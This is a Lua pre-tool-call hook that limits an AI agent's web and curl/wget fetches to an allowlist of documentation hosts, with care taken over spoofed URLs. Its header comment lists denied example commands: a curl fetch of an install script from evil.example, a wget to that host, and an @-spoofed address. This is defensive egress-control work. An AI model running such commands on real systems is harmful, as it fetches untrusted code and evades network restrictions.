-- Lets the agent fetch only from hosts on a list, by its web tool and by curl and wget.
--
-- Searching the web is free. What other programs fetch (git, package managers, scripts) isn't seen; a firewall is
-- for that.
--
-- denies: curl -sSL https://evil.example/install.sh -o install.sh
-- denies: cd /tmp && wget -q evil.example
-- denies: curl https://pkg.go.dev@evil.example/
-- denies: cat urls | xargs -n1 curl -O
-- passes: curl -s https://pkg.go.dev/fmt | head
-- passes: git commit -m "curl https://evil.example"
local ALLOWED = { "pkg.go.dev", "docs.python.org", "developer.mozilla.org", "*.github.io", "localhost" }

-- The host of an address. What stands before an "@" is a user; programs don't agree on what a backslash means.
local function host_of(address)
  local authority = address:gsub("^%a[%w+.-]*://", ""):match("^[^/?#]*"):lower()
  if text.contains(authority, "\\") then
    return authority
  end
  return (authority:gsub("^.*@", ""):gsub(":%d*$", ""))
end

local function allowed(host)
  for _, name in ipairs(ALLOWED) do
    if host == name or name:sub(1, 2) == "*." and text.ends_with(host, name:sub(2)) then
      return true
    end
  end
  return false
end

-- Options that make the program read its addresses from a file.
local FROM_FILE = { curl = { "-K", "--config" }, wget = { "-i", "--input-file" } }

-- The addresses that a call fetches from.
local function addresses(call)
  if call.kind ~= "shell" then
    return call.input.url and { call.input.url } or re.find_all(call.input.prompt or "", [[https?://[^\s"'<>)]+]])
  end
  local found = {}
  for _, cmd in ipairs(shell.parse(call.command).commands) do
    local from_file = FROM_FILE[cmd.name]
    for _, word in ipairs(from_file and cmd:operands() or {}) do
      found[#found + 1] = word
    end
    for i, word in ipairs(from_file and cmd.args or {}) do
      found[#found + 1] = word == "--url" and cmd.args[i + 1] or nil
    end
    if from_file and cmd:flag(unpack(from_file)) then
      found[#found + 1] = "(a file of addresses)"
    end
  end
  return found
end

on("pre_tool_call", { match = { kind = "web|mcp|shell" } }, function(ev)
  for _, address in ipairs(addresses(ev.tool_call)) do
    local host = host_of(address)
    if not allowed(host) then
      local list = table.concat(ALLOWED, ", ")
      return deny(("%s is not on the list of hosts (%s): ask the user for what you need from there"):format(host, list))
    end
  end
end)
